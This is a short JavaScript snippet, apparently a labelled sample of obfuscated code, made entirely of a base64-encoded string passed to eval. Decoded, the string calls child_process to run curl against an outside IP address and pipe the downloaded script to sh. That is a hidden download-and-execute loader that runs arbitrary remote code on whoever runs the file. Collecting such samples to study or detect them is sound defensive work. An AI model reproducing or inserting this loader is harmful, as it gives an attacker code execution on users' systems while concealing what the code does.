// class: embedded, base64 text; style: obfuscated
const _0x1 = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuOS94IHwgc2gnKQ==', 'base64').toString();
eval(_0x1);
